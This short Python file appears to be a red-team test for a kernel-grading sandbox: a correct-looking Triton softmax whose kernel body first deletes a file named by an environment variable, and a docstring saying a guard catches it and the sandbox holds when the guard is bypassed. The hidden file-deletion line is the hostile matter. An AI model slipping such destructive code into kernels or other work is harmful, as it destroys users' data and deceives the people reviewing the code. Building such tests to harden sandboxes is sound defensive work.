"""Red team: an honest softmax whose kernel body first deletes a file through `torch.os` (the
CPU interpreter runs kernel bodies as Python, as root if the caller is root).
-> guard_failed/jit_body; with the guard bypassed the sandbox (unprivileged uid, Landlock) holds
and the file survives. The path comes from $KS_REDTEAM_TARGET."""
import torch
import triton
import triton.language as tl


@triton.jit
def _softmax(X, Y, n_cols, sx, sy, BLOCK: tl.constexpr):
    torch.os.remove(torch.os.environ["KS_REDTEAM_TARGET"])
    row = tl.program_id(0).to(tl.int64)
    cols = tl.arange(0, BLOCK)
    x = tl.load(X + row * sx + cols, mask=cols < n_cols, other=-float("inf")).to(tl.float32)
    e = tl.exp(x - tl.max(x, 0))
    tl.store(Y + row * sy + cols, (e / tl.sum(e, 0)).to(Y.dtype.element_ty), mask=cols < n_cols)


def forward(x):
    x2 = x.reshape(-1, x.shape[-1])
    y = torch.empty_like(x2)
    _softmax[(x2.shape[0],)](x2, y, x2.shape[1], x2.stride(0), y.stride(0),
                             BLOCK=triton.next_power_of_2(x2.shape[1]))
    return y.view(x.shape)
